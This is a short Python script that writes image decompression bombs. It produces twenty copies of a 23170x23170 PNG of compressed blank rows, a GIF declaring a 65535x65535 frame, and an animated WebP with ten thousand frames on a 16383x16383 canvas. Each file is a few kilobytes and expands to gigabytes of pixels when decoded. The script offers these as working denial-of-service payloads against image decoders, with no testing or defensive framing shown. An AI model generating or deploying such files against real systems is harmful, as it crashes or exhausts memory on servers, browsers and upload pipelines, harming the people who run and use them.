# Pictures of a few kilobytes that take gigabytes of pixels.
import struct
import zlib


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


SIDE = 23170
lines = zlib.compress(bytes((SIDE // 8 + 2) * SIDE), 9)
png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", SIDE, SIDE, 1, 0, 0, 0, 0)) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")
for n in range(20):
    open(f"out/bomb-{n:02}.png", "wb").write(png)

# One frame as large as its declared screen, with the data of one pixel.
screen = b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + bytes(6)
frame = b"," + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\x02\x02\x44\x01\x00;"
open("out/bomb.gif", "wb").write(screen + frame)

# Ten thousand frames of one pixel, on the largest possible canvas.
pixel = b"\x2f\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
still = b"VP8L" + struct.pack("<I", 13) + pixel


def three(number):
    return struct.pack("<I", number)[:3]


moves = b"ANMF" + struct.pack("<I", 16 + len(still)) + three(0) * 4 + three(20) + b"\0" + still
canvas = b"VP8X" + struct.pack("<I", 10) + b"\x02\0\0\0" + three(16383) * 2
body = b"WEBP" + canvas + b"ANIM" + struct.pack("<IIH", 6, 0, 0) + moves * 10000
open("out/bomb.webp", "wb").write(b"RIFF" + struct.pack("<I", len(body)) + body)
